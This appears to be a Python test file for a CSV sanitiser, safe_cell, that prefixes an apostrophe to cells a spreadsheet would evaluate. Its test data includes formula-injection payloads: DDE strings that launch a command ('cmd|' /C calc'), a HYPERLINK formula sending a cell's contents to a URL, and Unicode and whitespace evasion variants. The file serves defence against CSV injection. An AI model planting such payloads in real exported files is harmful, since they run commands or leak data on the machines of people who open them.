"""What a spreadsheet would calculate gets an apostrophe; everything else stays as it is."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.csv_cells import safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org/?"&A1,"more")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\ttariffs",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\x00=1+1",
        "\ufeff=1+1",
        "\u200b@SUM(1)",
        "＝1+1",
        "＠SUM(1)",
        "﹣1+1",
        "- a list",
        "-5 % on steel",
        "+1-202-555",
        "-٣",
        "-5\n",
        "=",
        "-",
    ],
)
def test_what_would_be_calculated_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    ["", " ", "\x00", "steel", "25 % = a quarter", "'=1+1", '"=1+1"', "a@example.org", "–5", "−5", "(1)", "½", "'"],
)
def test_everything_else_stays(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", ["0", "25", "-5", "+5", "-12.500000000", "1e9", "-1.5E-9", "007"])
def test_a_number_stays_a_number(number: str) -> None:
    assert safe_cell(number) == number


@given(st.text())
def test_nothing_is_lost_and_the_apostrophe_ends_it(text: str) -> None:
    cell = safe_cell(text)
    assert cell in {text, f"'{text}"}
    assert safe_cell(cell) == cell


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
def test_cells_in_quotes_are_read_as_they_were_written(texts: list[str]) -> None:
    cells = [safe_cell(text) for text in texts]
    file = io.StringIO()
    csv.writer(file, quoting=csv.QUOTE_ALL).writerow(cells)
    file.seek(0)
    assert list(csv.reader(file)) == [cells]
